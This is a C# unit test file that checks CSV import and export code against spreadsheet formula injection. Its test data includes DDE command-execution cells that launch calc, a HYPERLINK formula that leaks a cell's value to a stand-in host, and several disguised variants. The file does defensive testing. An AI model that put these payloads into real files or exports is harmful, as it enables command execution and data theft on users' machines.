using Huitou.Connect;
using Huitou.Connect.Files;

namespace Huitou.Tests.Hostile;

/// <summary>Cells that a spreadsheet would run: data here, harmless in every file given out, and the same when that comes back.</summary>
public sealed class FormulaTests
{
    public static TheoryData<string, string, string> Cells() => new()
    {
        // As it stands in the file, as it is taken, as it is given out
        { "=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
        { "=HYPERLINK(\"http://x/?\"&A1,\"Click\")", "=HYPERLINK(\"http://x/?\"&A1,\"Click\")", "'=HYPERLINK(\"http://x/?\"&A1,\"Click\")" },
        { "@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0" },
        { "+1+1", "+1+1", "'+1+1" },
        { "-2+3", "-2+3", "'-2+3" },
        { "-2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0" },
        { "-5", "-5", "-5" },
        { "+86.50", "+86.50", "+86.50" },
        { "-1,234.50", "-1,234.50", "-1,234.50" },
        { "\t=1+1", "=1+1", "'\t=1+1" },
        { "\r=1+1", "=1+1", "'\r=1+1" },
        { "\n=1+1", "=1+1", "'\n=1+1" },
        { "＝1+1", "＝1+1", "'＝1+1" },
        { "＋1", "＋1", "'＋1" },
        { "－1", "－1", "'－1" },
        { "＠SUM(1)", "＠SUM(1)", "'＠SUM(1)" },
        { " =1+1", "=1+1", " =1+1" },
        { "'=1+1", "=1+1", "'=1+1" },
        { "''=1+1", "'=1+1", "''=1+1" },
        { "=\"6901234567890123456\"", "6901234567890123456", "'=\"6901234567890123456\"" },
        { "'=\"42\"", "42", "'=\"42\"" },
        { "=\"\"", "", "'=\"\"" },
        { "'13900000000", "13900000000", "'13900000000" },
        { "\t6901234567890123456", "6901234567890123456", "'\t6901234567890123456" },
        { "1;=1+1", "1;=1+1", "1;=1+1" },
        { "a\"b,c\nd", "a\"b,c\nd", "a\"b,c\nd" },
        { "%0A=1", "%0A=1", "%0A=1" },
        { "DDE(\"cmd\";\"/C calc\")", "DDE(\"cmd\";\"/C calc\")", "DDE(\"cmd\";\"/C calc\")" },
    };

    [Theory, MemberData(nameof(Cells))]
    public void Passes_through_as_data_and_is_harmless_in_what_is_given_out(string cell, string taken, string given)
    {
        Assert.Equal(taken, Assert.Single(Read(CsvText.Row(["key", cell]))));
        Assert.Equal(given, CsvText.Safe(cell));
        // Given out and uploaded again, twice over.
        var once = CsvText.Row(["key", CsvText.Safe(cell)]);
        Assert.Equal(taken, Assert.Single(Read(once)));
        Assert.Equal(once, CsvText.Row(["key", CsvText.Safe(CsvText.Safe(cell))]));
    }

    private static List<string> Read(string row) =>
        [.. new CsvRows(() => new MemoryStream(System.Text.Encoding.UTF8.GetBytes(row)), ',', transcoded: false).Read().Select(r => ExcelText.Tidy(r.Cells[1]))];
}
